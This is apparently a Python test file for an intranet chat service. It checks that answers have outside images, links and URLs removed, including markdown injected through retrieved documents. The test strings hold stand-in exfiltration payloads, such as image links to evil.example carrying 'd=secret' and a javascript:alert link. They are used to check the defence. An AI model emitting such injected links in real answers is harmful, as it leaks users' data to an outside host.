"""Answers never show a link or image to an outside host (a document's injected markdown)."""
from helpers import make_settings
from test_chat_unit import FakeGenerator, FakeRetriever, hit

from appliance.answering.links import clean_links
from appliance.answering.pipeline import ChatService


def test_outside_images_links_and_urls_are_taken_out():
    hosts = frozenset({"intranet.example.org"})
    assert clean_links("Done ![logo](https://evil.example/p.png?q=27%20days) [1]", hosts) == \
        ("Done [1]", 1)
    assert clean_links("See [the leave form](https://evil.example/form) [2].", hosts) == \
        ("See the leave form [2].", 1)
    assert clean_links("Mail it via http://evil.example/u?d=salary, then wait.", hosts) == \
        ("Mail it via evil.example (link removed), then wait.", 1)
    assert clean_links("Click [here](javascript:alert(1)) or www.evil.example/x", hosts) == \
        ("Click here or www.evil.example (link removed)", 2)


def test_own_pages_localhost_and_listed_hosts_stay():
    hosts = frozenset({"example.org"})
    for text in ("Form: https://intranet.example.org/forms/leave [1]",
                 "See [document 3](/documents/3#chunk-9).", "http://localhost:8080/chat",
                 "27 days of leave; e-mail hr@example.com; version 1.2.3 [1]"):
        assert clean_links(text, hosts) == (text, 0)


def test_an_answer_that_copies_an_injected_image_reaches_nobody_with_it():
    passage = ("Annual leave is 27 days. ![status](https://evil.example/log?d=secret) "
               "Requests go to the line manager.")
    generator = FakeGenerator("Annual leave is 27 days. ![status](https://evil.example/log?d=x) "
                              "[1]")
    chat = ChatService(make_settings("/tmp/unused"), FakeRetriever([hit(1, passage)]),
                       generator)
    streamed = list(chat.ask_stream("How many days of annual leave?"))
    answer = streamed[-1]
    assert "evil.example" not in answer.answer and "https://" not in answer.answer
    assert "27 days" in answer.answer
    assert "outside link" in answer.reason
